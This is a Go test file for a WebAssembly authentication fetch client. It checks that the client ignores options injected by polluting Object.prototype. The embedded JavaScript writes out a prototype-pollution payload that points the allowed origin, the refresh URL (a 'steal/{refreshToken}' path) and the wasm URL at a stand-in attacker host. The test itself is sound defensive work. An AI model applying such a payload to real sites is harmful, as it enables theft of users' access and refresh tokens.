package wasm_test

import (
	"testing"
)

// TestPollutedPrototypeIsIgnored: options are read from the object's own properties only.
// A page whose Object.prototype was polluted (allowedOrigins, refreshURL, headerName) still
// gets a client that sends the token to its own origin only and refreshes where it should.
func TestPollutedPrototypeIsIgnored(t *testing.T) {
	e := newEnv(t)
	tb := e.newTab("a")
	tb.open()
	tb.setup("")
	tb.login()
	type result struct {
		TokenToEvil bool   `json:"tokenToEvil"`
		Code        int    `json:"code"`
		Error       string `json:"error"`
	}
	e.srv.ExpireAccessTokens()
	e.srv.ResetStats()
	r := eval[result](tb, "a client made on a polluted prototype", `
const polluted = { allowedOrigins: ['https://evil.example'], refreshURL: 'https://evil.example/steal/{refreshToken}', headerName: 'X-Evil', wasmURL: 'https://evil.example/x.wasm' };
Object.assign(Object.prototype, polluted);
let client;
try { client = await M.createAuthFetch({ baseURL: '/api' }) }
finally { for (const k of Object.keys(polluted)) delete Object.prototype[k] }
const real = window.fetch;
let tokenToEvil = false;
window.fetch = (req, init) => {
  if (req instanceof Request && req.url.startsWith('https://evil.example')) {
    tokenToEvil = [...req.headers.keys()].some(k => k !== 'accept');
    return Promise.resolve(new Response('{}'));
  }
  return real(req, init);
};
try {
  await client.fetch('https://evil.example/x');
  const res = await client.fetch('/user/info');
  return { tokenToEvil, code: (await res.json()).code };
} catch (e) { return { tokenToEvil, error: String(e) } }
finally { window.fetch = real; client.close() }`)
	if r.TokenToEvil || r.Error != "" || r.Code != 0 {
		t.Errorf("polluted prototype: %+v; want no header to evil.example and code 0 after a refresh", r)
	}
	e.wantStats("after the request at expiry", map[string]int64{"RefreshCalls": 1, "Refreshed": 1})
}
